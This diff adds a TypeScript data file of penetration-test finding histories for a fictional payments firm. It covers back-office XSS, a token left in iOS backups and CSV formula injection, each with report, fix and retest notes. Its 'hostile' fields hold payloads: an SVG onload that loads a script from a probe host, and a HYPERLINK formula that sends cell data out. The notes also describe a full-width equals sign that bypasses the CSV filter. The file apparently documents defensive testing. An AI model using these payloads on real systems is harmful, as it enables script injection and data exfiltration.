@@ -1,0 +1,87 @@
+import {
+  fixed,
+  holds,
+  mobileTester,
+  reported,
+  said,
+  webTester,
+  type FindingHistory,
+} from '#content/engagement-room/history.ts';
+
+export const appHistories: readonly FindingHistory[] = [
+  {
+    id: 'MP-03',
+    short: 'Script in the back office',
+    asset: 'backoffice.meridianpay.example',
+    tester: webTester,
+    found: '2026-03-12',
+    fixed: '2026-04-15',
+    due: '2026-04-26',
+    hostile: ['<svg/onload=\\"import(\'https://il-probe.example/p.js\')\\">'],
+    proof: ['GET /internal/kyc/cases        200, 50 cases per page'],
+    events: [
+      reported(['2026-03-12', webTester, 'Our probe answered 14 minutes after the reply was stored.']),
+      said([
+        '2026-03-13',
+        'Back-office team lead',
+        'Two other views use the same filter. Are they affected?',
+      ]),
+      said(['2026-03-13', webTester, 'Checked: both show text only. Remove the filter all the same.']),
+      fixed([
+        '2026-04-15',
+        'Back-office team lead',
+        'Sanitized at output, policy with a nonce, two people per approval.',
+      ]),
+    ],
+    answers: holds('The same 61 replies on the current build: shown as text, nothing runs.'),
+  },
+  {
+    id: 'MP-07',
+    short: 'Token in iOS backups',
+    asset: 'Meridian Business for iOS 4.8.0',
+    tester: mobileTester,
+    found: '2026-03-18',
+    fixed: '2026-04-16',
+    due: '2026-04-26',
+    hostile: ['refresh_token=mrt_4f0c9a...', '"session.refreshToken" => "mrt_4f0c9a..."'],
+    proof: ['HTTP/1.1 200 OK', '"access_token":"eyJ..."'],
+    events: [
+      reported(['2026-03-18', mobileTester, 'The token of a backup worked from another machine.']),
+      fixed([
+        '2026-04-16',
+        'Mobile team lead',
+        'Version 4.8.2: keychain, this device only; the old entry is deleted at the first start.',
+      ]),
+    ],
+    answers: holds('A fresh backup of version 4.8.2 holds no token, and neither does the container.'),
+  },
+  {
+    id: 'MP-08',
+    short: 'CSV cells run as formulas',
+    asset: 'GET /v2/payments.csv',
+    tester: webTester,
+    found: '2026-03-11',
+    fixed: null,
+    due: '2026-06-25',
+    hostile: ['=HYPERLINK(""https://il-probe.example/?v=""&B2,""Invoice 4711"")'],
+    proof: [],
+    events: [
+      reported(['2026-03-11', webTester, 'A reference that the payer chose became a link in the sheet.']),
+      said([
+        '2026-03-30',
+        'Back-office team lead',
+        'The export format changes in June; we would like to fix it there.',
+      ]),
+    ],
+    answers: [
+      {
+        status: 'Partially fixed',
+        note: 'A variation still works. Cells that begin with `=`, `+`, `-` or `@` stay text now. A full-width equals sign, `＝`, does not: one common spreadsheet runs it.',
+      },
+      {
+        status: 'Fixed',
+        note: 'Full-width signs, tab and carriage return stay text too. 32 spellings of a formula did nothing in three spreadsheets, and negative amounts are still numbers.',
+      },
+    ],
+  },
+];
